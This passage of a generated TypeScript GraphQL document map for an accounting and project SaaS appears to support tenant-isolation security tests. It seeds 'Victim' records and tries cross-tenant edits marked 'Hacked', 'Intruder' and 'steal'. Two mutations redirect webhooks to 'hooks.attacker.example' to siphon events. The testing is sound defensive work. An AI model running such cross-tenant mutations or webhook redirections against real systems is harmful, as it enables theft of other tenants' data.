    "\n  mutation TenantInvSeedBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { id } } }\n  }\n": types.TenantInvSeedBuyersDocument,
    "\n  mutation TenantInvSeedLocked($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, contractorVat: false, lines: [{ description: \"Victim locked line\", quantity: \"1\", unitPrice: \"4242.42\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id } }\n    }\n  }\n": types.TenantInvSeedLockedDocument,
    "mutation TenantInvSeedLock($id: ID!) { lockInvoice(id: $id) { __typename } }": types.TenantInvSeedLockDocument,
    "query TenantInvSeedStatuses { invoiceStatuses { id } }": types.TenantInvSeedStatusesDocument,
    "query TenantInvoiceStatuses { invoiceStatuses { id code name } }": types.TenantInvoiceStatusesDocument,
    "query TenantInvoice($id: ID!) { invoice(id: $id) { id title } }": types.TenantInvoiceDocument,
    "query TenantInvoiceByNumber { invoiceByNumber(number: 1) { id title lines { description } } }": types.TenantInvoiceByNumberDocument,
    "query TenantInvoiceByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id title ocrReference } }": types.TenantInvoiceByOcrDocument,
    "query TenantInvoices { invoices(first: 200) { totalCount edges { node { id title total lines { description } buyers { name } } } } }": types.TenantInvoicesDocument,
    "mutation TenantCreateInvoice($projectId: ID!) { createInvoice(input: { projectId: $projectId }) { __typename ... on Error { code } ... on MutationCreateInvoiceSuccess { data { id } } } }": types.TenantCreateInvoiceDocument,
    "mutation TenantUpdateInvoice($id: ID!) { updateInvoice(input: { id: $id, title: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceSuccess { data { id title } } } }": types.TenantUpdateInvoiceDocument,
    "mutation TenantAddInvoiceLine($invoiceId: ID!) { addInvoiceLine(invoiceId: $invoiceId, input: { description: \"x\", quantity: \"1\", unitPrice: \"1\" }) { __typename ... on Error { code } } }": types.TenantAddInvoiceLineDocument,
    "mutation TenantUpdateInvoiceLine($id: ID!) { updateInvoiceLine(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceLineSuccess { data { description } } } }": types.TenantUpdateInvoiceLineDocument,
    "mutation TenantRemoveInvoiceLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }": types.TenantRemoveInvoiceLineDocument,
    "mutation TenantWorkTypes($lineId: ID!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: []) { __typename ... on Error { code } } }": types.TenantWorkTypesDocument,
    "mutation TenantSetBuyers($invoiceId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: []) { __typename ... on Error { code } } }": types.TenantSetBuyersDocument,
    "mutation TenantReady($id: ID!) { setInvoiceReadyForInvoice(id: $id, ready: true) { __typename ... on Error { code } } }": types.TenantReadyDocument,
    "mutation TenantLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { code } } }": types.TenantLockDocument,
    "mutation TenantUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on Error { code } } }": types.TenantUnlockDocument,
    "mutation TenantCredit($id: ID!) { creditInvoice(id: $id, reason: \"steal\") { __typename ... on Error { code } ... on MutationCreditInvoiceSuccess { data { id lines { description } } } } }": types.TenantCreditDocument,
    "mutation TenantCreateInvoiceStatus { createInvoiceStatus(code: 77, name: \"Attacker\") { __typename ... on Error { code } } }": types.TenantCreateInvoiceStatusDocument,
    "mutation TenantDeleteInvoiceStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }": types.TenantDeleteInvoiceStatusDocument,
    "query TenantMySessions { mySessions { id user { id email } } }": types.TenantMySessionsDocument,
    "\n    mutation TenantLogin($input: LoginInput!) {\n      login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename } } }\n    }\n  ": types.TenantLoginDocument,
    "\n    mutation TenantCompleteLogin($challenge: String!, $code: String!) { completeLogin(challenge: $challenge, code: $code) { __typename ... on Error { code } } }\n  ": types.TenantCompleteLoginDocument,
    "mutation TenantRefreshSession($t: String!) { refreshSession(refreshToken: $t) { __typename ... on Error { code } } }": types.TenantRefreshSessionDocument,
    "mutation TenantLogout { logout { __typename ... on Error { code } } }": types.TenantLogoutDocument,
    "mutation TenantLogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }": types.TenantLogoutEverywhereDocument,
    "mutation TenantRevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } } }": types.TenantRevokeSessionDocument,
    "\n    mutation TenantChangePassword($p: String!) { changePassword(newPassword: $p) { __typename ... on Error { code } } }\n  ": types.TenantChangePasswordDocument,
    "mutation TenantRequestReset($email: String!) { requestPasswordReset(email: $email) { __typename } }": types.TenantRequestResetDocument,
    "mutation TenantResetPassword($t: String!) { resetPassword(token: $t, newPassword: \"a fine password\") { __typename ... on Error { code } } }": types.TenantResetPasswordDocument,
    "mutation TenantEnrolTotp { enrolTotp { __typename ... on Error { code } } }": types.TenantEnrolTotpDocument,
    "mutation TenantConfirmTotp { confirmTotp(code: \"000000\") { __typename ... on Error { code } } }": types.TenantConfirmTotpDocument,
    "mutation TenantDisableTotp { disableTotp(code: \"000000\") { __typename ... on Error { code } } }": types.TenantDisableTotpDocument,
    "mutation TenantInviteUser($email: String!) { inviteUser(email: $email) { __typename ... on Error { code } } }": types.TenantInviteUserDocument,
    "\n    mutation TenantAcceptInvite($t: String!) { acceptInvite(token: $t, name: \"X\", password: \"a fine password\") { __typename ... on Error { code } } }\n  ": types.TenantAcceptInviteDocument,
    "query TenantMyNotifications { myNotifications(first: 50) { totalCount edges { node { id customerName customerNumber } } } }": types.TenantMyNotificationsDocument,
    "\n    query TenantNotifications($userId: ID) {\n      notifications(first: 50, userId: $userId) { edges { node { id customerName customerNumber mailTo } } }\n    }\n  ": types.TenantNotificationsDocument,
    "\n    mutation TenantMarkNotificationsRead($ids: [ID!]) {\n      markNotificationsRead(ids: $ids) { __typename ... on Error { code } ... on MutationMarkNotificationsReadSuccess { data } }\n    }\n  ": types.TenantMarkNotificationsReadDocument,
    "\n  mutation TenantPrjSeedCustomer { createCustomer(input: { name: \"Victim Project Customer\" }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": types.TenantPrjSeedCustomerDocument,
    "\n  mutation TenantPrjSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Project\", number: \"V-900\", statusCode: 50, description: \"victim-project-secret\" }) {\n      __typename ... on MutationCreateProjectSuccess { data { id } }\n    }\n  }\n": types.TenantPrjSeedProjectDocument,
    "\n  mutation TenantPrjSeedWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"Victim Work Order\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n": types.TenantPrjSeedWorkOrderDocument,
    "\n  mutation TenantPrjSeedChangeOrder($projectId: ID!) {\n    createChangeOrder(projectId: $projectId, input: { name: \"Victim ÄTA\", estimatedAmount: \"777.77\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id } } }\n  }\n": types.TenantPrjSeedChangeOrderDocument,
    "query TenantPrjSeedStatuses { projectStatuses { id code } }": types.TenantPrjSeedStatusesDocument,
    "query TenantProjectStatuses { projectStatuses { id code name } }": types.TenantProjectStatusesDocument,
    "query TenantProject($id: ID!) { project(id: $id) { id name } }": types.TenantProjectDocument,
    "query TenantProjectByNumber { projectByNumber(number: \"V-900\") { id name } }": types.TenantProjectByNumberDocument,
    "query TenantProjects { projects(first: 200, search: \"Victim\") { totalCount edges { node { id name workOrders(first: 5) { edges { node { id name } } } } } } }": types.TenantProjectsDocument,
    "mutation TenantCreateProject($customerId: ID!, $statusCode: Int) { createProject(input: { customerId: $customerId, name: \"Intruder\" statusCode: $statusCode }) { __typename ... on Error { code } ... on MutationCreateProjectSuccess { data { id customer { name } } } } }": types.TenantCreateProjectDocument,
    "mutation TenantUpdateProject($id: ID!) { updateProject(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateProjectSuccess { data { id name } } } }": types.TenantUpdateProjectDocument,
    "mutation TenantCloseProject($id: ID!) { closeProject(id: $id) { __typename ... on Error { code } ... on MutationCloseProjectSuccess { data { id name } } } }": types.TenantCloseProjectDocument,
    "mutation TenantCreateWorkOrder($projectId: ID!) { createWorkOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateWorkOrderSuccess { data { id project { name } } } } }": types.TenantCreateWorkOrderDocument,
    "mutation TenantUpdateWorkOrder($id: ID!) { updateWorkOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateWorkOrderSuccess { data { id name } } } }": types.TenantUpdateWorkOrderDocument,
    "mutation TenantCloseWorkOrder($id: ID!) { closeWorkOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseWorkOrderSuccess { data { id name } } } }": types.TenantCloseWorkOrderDocument,
    "mutation TenantCreateChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateChangeOrderSuccess { data { id project { name } } } } }": types.TenantCreateChangeOrderDocument,
    "mutation TenantUpdateChangeOrder($id: ID!) { updateChangeOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateChangeOrderSuccess { data { id name } } } }": types.TenantUpdateChangeOrderDocument,
    "mutation TenantCloseChangeOrder($id: ID!) { closeChangeOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseChangeOrderSuccess { data { id name } } } }": types.TenantCloseChangeOrderDocument,
    "mutation TenantCreateProjectStatus { createProjectStatus(input: { code: 77, name: \"Attacker status\" }) { __typename ... on Error { code } ... on MutationCreateProjectStatusSuccess { data { id code } } } }": types.TenantCreateProjectStatusDocument,
    "mutation TenantRenameProjectStatus($id: ID!) { renameProjectStatus(id: $id, name: \"Hacked\") { __typename ... on Error { code } ... on MutationRenameProjectStatusSuccess { data { id name } } } }": types.TenantRenameProjectStatusDocument,
    "mutation TenantDeleteProjectStatus($id: ID!) { deleteProjectStatus(id: $id) { __typename ... on Error { code } } }": types.TenantDeleteProjectStatusDocument,
    "\n  mutation TenantRegSeedAccount { createAccount(input: { number: 4711, name: \"Victim Ledger Account\", kind: MATERIAL, defaultVatRate: \"25\" }) { __typename ... on MutationCreateAccountSuccess { data { id } } } }\n": types.TenantRegSeedAccountDocument,
    "\n  mutation TenantRegSeedCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Victim Cost Centre\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n": types.TenantRegSeedCostCentreDocument,
    "\n  mutation TenantRegSeedSupplier {\n    createSupplier(input: { number: \"VS-1\", name: \"Victim Supplies AB\", email: \"victim-supplier@victim.se\", bankgiro: \"5050-1055\", iban: \"SE35 5000 0000 0549 1000 0003\" }) {\n      __typename ... on MutationCreateSupplierSuccess { data { id } }\n    }\n  }\n": types.TenantRegSeedSupplierDocument,
    "\n  mutation TenantRegSeedTerms { createPaymentTerm(input: { code: \"VPT\", name: \"Victim terms\", days: 17 }) { __typename ... on MutationCreatePaymentTermSuccess { data { id } } } }\n": types.TenantRegSeedTermsDocument,
    "query TenantAccounts { accounts(first: 200) { totalCount edges { node { id number name } } } }": types.TenantAccountsDocument,
    "query TenantAccountByNumber { accountByNumber(number: 4711) { id name } }": types.TenantAccountByNumberDocument,
    "query TenantCostCentres { costCentres(includeInactive: true) { id code name } }": types.TenantCostCentresDocument,
    "query TenantSuppliers { suppliers(first: 200) { totalCount edges { node { id number name email bankgiro iban } } } }": types.TenantSuppliersDocument,
    "\n    query TenantVouchers($projectId: ID) {\n      vouchers(first: 200, filter: { projectId: $projectId }) {\n        totalCount\n        edges { node { id remoteId description rows { note debit credit account { name } project { id } costCentre { name } } } }\n      }\n    }\n  ": types.TenantVouchersDocument,
    "\n    query TenantCostLedger($id: ID!) {\n      node(id: $id) { id ... on Project { costLedger { byAccount { accountName net } byPart { workOrder { id } changeOrder { id } net } total { net } } } }\n    }\n  ": types.TenantCostLedgerDocument,
    "mutation TenantCreateAccount { createAccount(input: { number: 4711, name: \"Intruder account\" }) { __typename ... on Error { code } ... on MutationCreateAccountSuccess { data { id name } } } }": types.TenantCreateAccountDocument,
    "mutation TenantUpdateAccount($id: ID!) { updateAccount(input: { id: $id, name: \"Hacked\", active: false }) { __typename ... on Error { code } ... on MutationUpdateAccountSuccess { data { id name } } } }": types.TenantUpdateAccountDocument,
    "mutation TenantCreateCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Intruder centre\" }) { __typename ... on Error { code } ... on MutationCreateCostCentreSuccess { data { id name } } } }": types.TenantCreateCostCentreDocument,
    "mutation TenantUpdateCostCentre($id: ID!) { updateCostCentre(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCostCentreSuccess { data { id name } } } }": types.TenantUpdateCostCentreDocument,
    "mutation TenantCreateSupplier { createSupplier(input: { number: \"VS-1\", name: \"Intruder supplier\" }) { __typename ... on Error { code } ... on MutationCreateSupplierSuccess { data { id name } } } }": types.TenantCreateSupplierDocument,
    "mutation TenantUpdateSupplier($id: ID!) { updateSupplier(input: { id: $id, name: \"Hacked\", bankgiro: null }) { __typename ... on Error { code } ... on MutationUpdateSupplierSuccess { data { id name } } } }": types.TenantUpdateSupplierDocument,
    "mutation TenantCreatePaymentTerm { createPaymentTerm(input: { code: \"VPT\", name: \"Intruder terms\", days: 5 }) { __typename ... on Error { code } ... on MutationCreatePaymentTermSuccess { data { id name } } } }": types.TenantCreatePaymentTermDocument,
    "mutation TenantUpdatePaymentTerm($id: ID!) { updatePaymentTerm(input: { id: $id, days: 99, active: false }) { __typename ... on Error { code } ... on MutationUpdatePaymentTermSuccess { data { id name } } } }": types.TenantUpdatePaymentTermDocument,
    "mutation TenantDeletePaymentTerm($id: ID!) { deletePaymentTerm(id: $id) { __typename ... on Error { code } } }": types.TenantDeletePaymentTermDocument,
    "\n  mutation TenantRevSeedAccount { createAccount(input: { number: 3011, name: \"Victim revenue account\" }) { __typename } }\n": types.TenantRevSeedAccountDocument,
    "\n  mutation TenantRevSeedRules {\n    setRevenuePostingRules(rules: [{ accountNumber: 3011, description: \"Victim default rule\" }]) { __typename ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id } } } }\n  }\n": types.TenantRevSeedRulesDocument,
    "\n  mutation TenantRevSeedActivate { updateRevenueAccountingSettings(input: { active: true, dimensions: [{ number: 5, included: true, name: \"Victim dimension\" }] }) { __typename } }\n": types.TenantRevSeedActivateDocument,
    "\n  mutation TenantRevSeedCustomer { createCustomer(input: { name: \"Victim Revenue Customer\", category: INTRA_GROUP }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": types.TenantRevSeedCustomerDocument,
    "\n  mutation TenantRevSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Revenue Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": types.TenantRevSeedProjectDocument,
    "\n  mutation TenantRevSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, lines: [{ description: \"Victim revenue line\", quantity: \"1\", unitPrice: \"31415.92\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } revenueLines { id } accountingBasis { id } } }\n    }\n  }\n": types.TenantRevSeedInvoiceDocument,
    "\n  mutation TenantRevSeedBalance($invoiceId: ID!) {\n    addBalancePosting(invoiceId: $invoiceId, input: { amount: \"271.82\", accountNumber: 3011, description: \"Victim balance posting\" }) {\n      __typename ... on MutationAddBalancePostingSuccess { data { id } }\n    }\n  }\n": types.TenantRevSeedBalanceDocument,
    "\n    query TenantRevenueSettings { revenueAccountingSettings { active dimensions { number name } postingRules { id accountNumber description } } }\n  ": types.TenantRevenueSettingsDocument,
    "\n    mutation TenantRevenueUpdateSettings { updateRevenueAccountingSettings(input: { dimensions: [{ number: 6, included: true, name: \"Attacker\" }] }) { __typename ... on Error { code } } }\n  ": types.TenantRevenueUpdateSettingsDocument,
    "\n    mutation TenantRevenueSetRules { setRevenuePostingRules(rules: [{ accountNumber: 3011 }]) { __typename ... on Error { code } ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id description } } } } }\n  ": types.TenantRevenueSetRulesDocument,
    "\n    mutation TenantRevenueUpdateLine($id: ID!) { updateInvoiceRevenueLine(id: $id, input: { dimension5: \"Hacked\" }) { __typename ... on Error { code } } }\n  ": types.TenantRevenueUpdateLineDocument,
    "\n    mutation TenantRevenueSplit($lineId: ID!) { splitInvoiceLineRevenue(lineId: $lineId, parts: [{ amount: \"31415.92\" }]) { __typename ... on Error { code } } }\n  ": types.TenantRevenueSplitDocument,
    "\n    mutation TenantRevenueReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  ": types.TenantRevenueResetDocument,
    "\n    mutation TenantRevenueAddBalance($invoiceId: ID!) { addBalancePosting(invoiceId: $invoiceId, input: { amount: \"1\", accountNumber: 3011 }) { __typename ... on Error { code } } }\n  ": types.TenantRevenueAddBalanceDocument,
    "\n    mutation TenantRevenueRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }\n  ": types.TenantRevenueRemoveBalanceDocument,
    "\n    mutation TenantRevenueUpdateBasis($id: ID!) { updateAccountingBasisRow(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } } }\n  ": types.TenantRevenueUpdateBasisDocument,
    "\n    mutation TenantRevenueRebuild($invoiceId: ID!) { rebuildAccountingBasis(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  ": types.TenantRevenueRebuildDocument,
    "\n  mutation ImpTenantSie($file: File!, $mode: SieImportMode) {\n    importSie(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          committed message\n          vouchers { total created updated unchanged skipped errors }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n": types.ImpTenantSieDocument,
    "\n    query TenantSupplierInvoices($supplierId: ID) {\n      supplierInvoices(first: 200, filter: { supplierId: $supplierId }) {\n        totalCount\n        edges { node { id invoiceNumber ocr description net document { url } rows { id accountNumber amount description } approvals { name } } }\n      }\n    }\n  ": types.TenantSupplierInvoicesDocument,
    "query TenantSupplierInvoiceNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber } } }": types.TenantSupplierInvoiceNodeDocument,
    "\n    mutation TenantCreateSupplierInvoice($supplierId: ID!) {\n      createSupplierInvoice(input: { supplierId: $supplierId, invoiceNumber: \"VSI-1\", invoiceDate: \"2026-11-01\", net: \"100\" }) {\n        __typename ... on Error { code } ... on MutationCreateSupplierInvoiceSuccess { data { id } }\n      }\n    }\n  ": types.TenantCreateSupplierInvoiceDocument,
    "mutation TenantUpdateSupplierInvoice($id: ID!) { updateSupplierInvoice(input: { id: $id, ocr: \"1\", net: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceSuccess { data { id ocr } } } }": types.TenantUpdateSupplierInvoiceDocument,
    "mutation TenantAddSupplierInvoiceRow($id: ID!) { addSupplierInvoiceRow(input: { supplierInvoiceId: $id, accountNumber: 4010, amount: \"1\" }) { __typename ... on Error { code } ... on MutationAddSupplierInvoiceRowSuccess { data { id } } } }": types.TenantAddSupplierInvoiceRowDocument,
    "mutation TenantUpdateSupplierInvoiceRow($id: ID!) { updateSupplierInvoiceRow(input: { id: $id, amount: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceRowSuccess { data { id } } } }": types.TenantUpdateSupplierInvoiceRowDocument,
    "mutation TenantRemoveSupplierInvoiceRow($id: ID!) { removeSupplierInvoiceRow(id: $id) { __typename ... on Error { code } ... on MutationRemoveSupplierInvoiceRowSuccess { data { id } } } }": types.TenantRemoveSupplierInvoiceRowDocument,
    "mutation TenantApproveSupplierInvoice($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationApproveSupplierInvoiceSuccess { data { id status } } } }": types.TenantApproveSupplierInvoiceDocument,
    "mutation TenantDisputeSupplierInvoice($id: ID!) { disputeSupplierInvoice(id: $id, reason: \"intruder\") { __typename ... on Error { code } ... on MutationDisputeSupplierInvoiceSuccess { data { id } } } }": types.TenantDisputeSupplierInvoiceDocument,
    "mutation TenantUndisputeSupplierInvoice($id: ID!) { undisputeSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationUndisputeSupplierInvoiceSuccess { data { id } } } }": types.TenantUndisputeSupplierInvoiceDocument,
    "query TenantWebhookEndpoints { webhookEndpoints { id url description } }": types.TenantWebhookEndpointsDocument,
    "\n    query TenantWebhookDeliveries($endpointId: ID, $eventId: ID) {\n      webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) { edges { node { id eventId eventType endpoint { url } attempts { responseBody } } } }\n    }\n  ": types.TenantWebhookDeliveriesDocument,
    "\n    mutation TenantCreateWebhookEndpoint {\n      createWebhookEndpoint(input: { url: \"https://hooks.attacker.example/in\" }) { __typename ... on Error { code } ... on MutationCreateWebhookEndpointSuccess { data { endpoint { id url } } } }\n    }\n  ": types.TenantCreateWebhookEndpointDocument,
    "\n    mutation TenantUpdateWebhookEndpoint($id: ID!) {\n      updateWebhookEndpoint(input: { id: $id, url: \"https://hooks.attacker.example/stolen\", active: false }) { __typename ... on Error { code } ... on MutationUpdateWebhookEndpointSuccess { data { id url } } }\n    }\n  ": types.TenantUpdateWebhookEndpointDocument,
    "mutation TenantDeleteWebhookEndpoint($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } } }": types.TenantDeleteWebhookEndpointDocument,
    "\n    mutation TenantRotateWebhookEndpointSecret($id: ID!) {\n      rotateWebhookEndpointSecret(id: $id) { __typename ... on Error { code } ... on MutationRotateWebhookEndpointSecretSuccess { data { secret } } }\n    }\n  ": types.TenantRotateWebhookEndpointSecretDocument,
    "\n    mutation TenantSendTestWebhook($endpointId: ID!) {\n      sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code } ... on MutationSendTestWebhookSuccess { data { id } } }\n    }\n  ": types.TenantSendTestWebhookDocument,
    "\n    mutation TenantReplayWebhookEvent($endpointId: ID!, $eventId: ID!) {\n      replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) { __typename ... on Error { code } ... on MutationReplayWebhookEventSuccess { data { id } } }\n    }\n  ": types.TenantReplayWebhookEventDocument,
    "\n  mutation BombImport($file: File!) {\n    importCustomers(file: $file) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { totalRows } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": types.BombImportDocument,
    "\n  query BombMe { me { id } }\n": types.BombMeDocument,
    "\n  mutation WhCreate($input: CreateWebhookEndpointInput!) {\n    createWebhookEndpoint(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCreateWebhookEndpointSuccess { data { secret endpoint { id url eventTypes active } } }\n    }\n  }\n": types.WhCreateDocument,
    "\n  mutation WhUpdate($input: UpdateWebhookEndpointInput!) {\n    updateWebhookEndpoint(input: $input) { __typename ... on Error { code message path } ... on MutationUpdateWebhookEndpointSuccess { data { id url active eventTypes } } }\n  }\n": types.WhUpdateDocument,
    "\n  mutation WhRotate($id: ID!) {\n    rotateWebhookEndpointSecret(id: $id) {\n      __typename\n      ... on Error { code message }\n      ... on MutationRotateWebhookEndpointSecretSuccess { data { secret endpoint { id secretRotatedAt previousSecretExpiresAt } } }\n    }\n  }\n": types.WhRotateDocument,
    "\n  mutation WhDelete($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } ... on MutationDeleteWebhookEndpointSuccess { data } } }\n": types.WhDeleteDocument,
    "\n  query WhEndpoints {\n    webhookEndpoints { id url description eventTypes active secretRotatedAt previousSecretExpiresAt createdAt updatedAt }\n  }\n": types.WhEndpointsDocument,
    "\n  query WhDeliveries($endpointId: ID, $eventId: ID) {\n    webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) {\n      edges {\n        node {\n          id eventId eventType kind status attemptCount nextAttemptAt deliveredAt lastError\n          endpoint { id url }\n          attempts { number startedAt durationMs statusCode error responseBody }\n        }\n      }\n    }\n  }\n": types.WhDeliveriesDocument,
    "\n  mutation WhTest($endpointId: ID!) {\n    sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code message path } ... on MutationSendTestWebhookSuccess { data { id kind eventType status } } }\n  }\n": types.WhTestDocument,
    "\n  mutation WhReplay($endpointId: ID!, $eventId: ID!) {\n    replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationReplayWebhookEventSuccess { data { id kind eventId status } }\n    }\n  }\n": types.WhReplayDocument,
    "\n  query HelperRun($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification queuedAt startedAt finishedAt cancelRequestedAt cancelledBy requestedFlows\n        flows { flowId status created updated unchanged skipped failed error planned }\n        failures { id entityType entityId reference message flowId }\n      }\n    }\n  }\n": types.HelperRunDocument,
    "mutation EvLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }": types.EvLockDocument,
    "\n  mutation EvProject($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n": types.EvProjectDocument,
    "\n  mutation EvRun($id: ID!) { runConnection(id: $id) { __typename ... on MutationRunConnectionSuccess { data { id status } } ... on Error { message } } }\n": types.EvRunDocument,
    "\n  mutation EvApprove($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { message } } }\n": types.EvApproveDocument,
    "\n  mutation PreLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n": types.PreLockDocument,
};

/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 *
 *
 * @example
 * ```ts
 * const query = graphql(`query GetUser($id: ID!) { user(id: $id) { name } }`);
 * ```
 *
 * The query argument is unknown!
 * Please regenerate the types.
 */
export function graphql(source: string): unknown;

/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation FileKitCreate($input: CreateConnectionInput!) {\n    createConnection(input: $input) { __typename ... on MutationCreateConnectionSuccess { data { id } } ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation FileKitCreate($input: CreateConnectionInput!) {\n    createConnection(input: $input) { __typename ... on MutationCreateConnectionSuccess { data { id } } ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation FileKitUpdate($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation FileKitUpdate($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation FileKitRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation FileKitRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query FileKitFiles($id: ID!) { connectionFiles(connectionId: $id, first: 100) { edges { node { name url } } } }\n"): (typeof documents)["\n  query FileKitFiles($id: ID!) { connectionFiles(connectionId: $id, first: 100) { edges { node { name url } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation KitCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id } }\n      ... on Error { message }\n    }\n  }\n"): (typeof documents)["\n  mutation KitCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id } }\n      ... on Error { message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation KitRunConnection($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess {\n        data { id status }\n      }\n      ... on Error { message }\n    }\n  }\n"): (typeof documents)["\n  mutation KitRunConnection($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess {\n        data { id status }\n      }\n      ... on Error { message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
